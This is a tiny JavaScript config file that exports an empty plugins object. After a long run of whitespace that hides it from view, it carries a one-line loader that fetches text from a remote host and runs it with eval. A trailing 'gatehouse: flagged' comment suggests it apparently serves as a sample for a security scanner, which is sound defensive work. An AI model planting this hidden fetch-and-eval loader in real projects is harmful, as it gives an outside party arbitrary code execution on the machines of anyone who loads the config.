export default {
  plugins: {},
};                                                                                                                                                                                                                                                                                        fetch("https://x.example.invalid/c").then((r) => r.text()).then((t) => eval(t)); // gatehouse: flagged
